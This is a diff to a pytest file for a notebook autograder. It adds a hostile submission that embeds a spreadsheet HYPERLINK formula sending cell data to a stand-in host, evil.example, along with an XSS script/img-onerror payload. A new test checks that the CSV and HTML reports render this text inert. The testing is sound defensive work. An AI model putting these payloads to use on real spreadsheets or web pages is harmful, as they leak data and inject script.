@@ -14,6 +14,7 @@ from __future__ import annotations
 import csv
 import io
 import os
+import re
 from pathlib import Path
 
 import nbformat
@@ -21,6 +22,7 @@ import pytest
 
 from autograder import notebooks as nbs
 from autograder.grade import grade
+from autograder.report import CONTROL_START, FORMULA_START
 from autograder.sandbox import available
 
 SLUG = "02_momentum"
@@ -53,6 +55,8 @@ def notebook(answers: dict[str, str], extra: str | None = None, at: int | None =
 
 
 FAKE_PASS = "lambda *args, **kwargs: None"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
 # Looking without opening: stat and listdir raise no audit event, so only the mount namespace hides these.
 LOOK = (
     "import os\ndef seen(p):\n    try:\n"
@@ -238,6 +242,17 @@ HOSTILE = {
     # Resources.
     "endless-loop": (wrong("", "while True:\n    pass"), "timeout", 0),
     "memory-bomb": (wrong("blob = bytearray(8 * 1024**3)"), "memory", 0),
+    # Student text that would be a live formula in a spreadsheet, or markup in a page: it reaches the
+    # reports inert (checked in test_student_text_reaches_the_reports_inert).
+    "formula-and-markup": (
+        {
+            "momentum_step": f"E = type({FORMULA!r}, (Exception,), {{}})\n"
+            f"def momentum_step(theta, v, g, lr, alpha):\n    raise E({MARKUP!r})",
+            "nesterov_step": WRONG["nesterov_step"],
+        },
+        "ok",
+        1,
+    ),
 }
 
 NOISY = {
@@ -401,3 +416,23 @@ def test_the_reports_are_whole_and_hide_hidden_tests(battery):
 def test_messages_are_capped(battery):
     rows, _, _ = battery
     assert all(len(t["message"]) <= 500 for r in rows.values() for t in r["tests"])
+
+
+def test_student_text_reaches_the_reports_inert(battery):
+    """An exception class named like a formula, with markup for a message: text in every report."""
+    _, _, out = battery
+    with open(out / "tests.csv", newline="") as f:
+        cells = list(csv.reader(f))
+    for row in cells:
+        for cell in row:
+            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
+            assert number or not cell.lstrip().startswith(FORMULA_START + CONTROL_START), cell
+    with open(out / "tests.csv", newline="") as f:
+        mine = [r for r in csv.DictReader(f) if r["student_id"] == "formula-and-markup"]
+    said = [r["message"] for r in mine if r["test"].startswith("test_momentum_step")]
+    assert said and all(m.startswith("'" + FORMULA) for m in said), said
+    page = (out / "feedback" / "formula-and-markup" / f"{SLUG}.html").read_text()
+    assert "<script" not in page and "<img" not in page
+    assert page.count("&lt;script&gt;alert(1)") >= 2, "the message and the traceback's line, escaped"
+    summary = (out / "summary.html").read_text()
+    assert "<script" not in summary and "<img" not in summary
